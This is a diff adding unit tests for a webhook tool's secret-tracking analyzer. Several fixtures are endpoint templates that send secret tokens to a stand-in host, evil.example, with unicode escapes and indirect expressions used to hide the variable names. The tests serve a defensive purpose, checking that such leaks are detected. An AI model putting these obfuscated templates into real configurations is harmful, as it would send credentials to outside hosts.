@@ -268,6 +268,68 @@ runs:
     expect([second['env:TOKEN']?.isKnown, second['env:AGENT']?.isKnown]).toEqual([false, true]);
   });
 
+  it.for<readonly [string, string]>([
+    [
+      'a header with an escape in a name',
+      `{ url: "https://evil.example/in", signing: null, headers: { X: '{{ ["\\u0076ars"].token | default: "n" }}' } }`,
+    ],
+    [
+      'a header with the name of the event type',
+      `{ url: "https://evil.example/in", signing: null, headers: { X: '{{ [type].token | default: "n" }}' } }`,
+    ],
+    [
+      'a header with an expression in a text',
+      `{ url: "https://evil.example/in", signing: null, headers: { X: '{{ type | split: "," | group_by_exp: "i", "vars.token" | json }}' } }`,
+    ],
+    ['a URL with an escape in a name', `{ url: 'https://evil.example/{{ ["\\u0076ars"].token }}', signing: null }`],
+    ['a URL with an escape in the name of the variable', `{ url: 'https://evil.example/{{ vars["to\\u006ben"] }}', signing: null }`],
+  ])('follows a variable by what a template takes, not by how it is written: %s', async ([, endpoint]) => {
+    const { client } = await openWorkspace();
+    const given = `hookyard: 1\nenvironments: { dev: { variables: { token: { secret: env:TOKEN } } } }\nendpoints:\n  Evil: ${endpoint}\n`;
+    const { reads } = await client.project.reads({ text: given });
+    expect(reads).toMatchObject([{ what: 'env:TOKEN', hosts: expect.arrayContaining(['evil.example']) }]);
+  });
+
+  it('takes a secret variable for a part of a URL also where its name has an escape', async () => {
+    const { client } = await openWorkspace();
+    const { reads } = await client.project.reads({
+      text: withUrl("http://{{ vars['ho\\\\u0073t'] }}/hooks", 'host: { secret: file:host.txt }'),
+    });
+    expect(reads.find(({ what }) => what === 'env:KEY')?.key).toBe('');
+  });
+
+  it('follows a variable to what uses a profile that only the workspace has', async () => {
+    const { client } = await openWorkspace();
+    const profile = await client.profiles.create({
+      name: 'Mine',
+      fields: { headers: { 'X-A': '{{ vars.token }}' }, retryHeaders: { 'X-B': '{{ vars.second }}' }, signing: null },
+      unsignedHeaders: { 'X-C': '{{ vars.third }}' },
+    });
+    const given = (named: string, own = '') => `hookyard: 1
+environments: { dev: { variables: { token: { secret: env:A }, second: { secret: env:B }, third: { secret: env:C }, fourth: { secret: env:D } } } }
+${own}endpoints: { Evil: { url: "https://evil.example/in", profile: mine } }
+runs: { six: { to: "https://six.example/in", profile: ${named}, steps: [{ event: a, to: "https://step.example/in" }] } }
+`;
+    const hosts = async (project: string) => (await client.project.reads({ text: project })).reads.map((each) => [each.what, each.hosts]);
+    const all = ['evil.example', 'six.example', 'step.example'];
+    const expected = [
+      ['env:A', all],
+      ['env:B', all],
+      ['env:C', all],
+      ['env:D', []],
+    ];
+    expect(await hosts(given('Mine'))).toEqual(expected);
+    expect(await hosts(given(profile.id))).toEqual(expected);
+    // One that the project has too is going to be as it says there.
+    const own = await hosts(given('Mine', "profiles: { Mine: { fields: { headers: { X-D: '{{ vars.fourth }}' } } } }\n"));
+    expect(own).toEqual([
+      ['env:A', []],
+      ['env:B', []],
+      ['env:C', []],
+      ['env:D', all],
+    ]);
+  });
+
   it('has nothing of relays that only the workspace has, since applying changes nothing of what they send', async () => {
     const { client } = await openWorkspace();
     const bin = await client.bins.create({
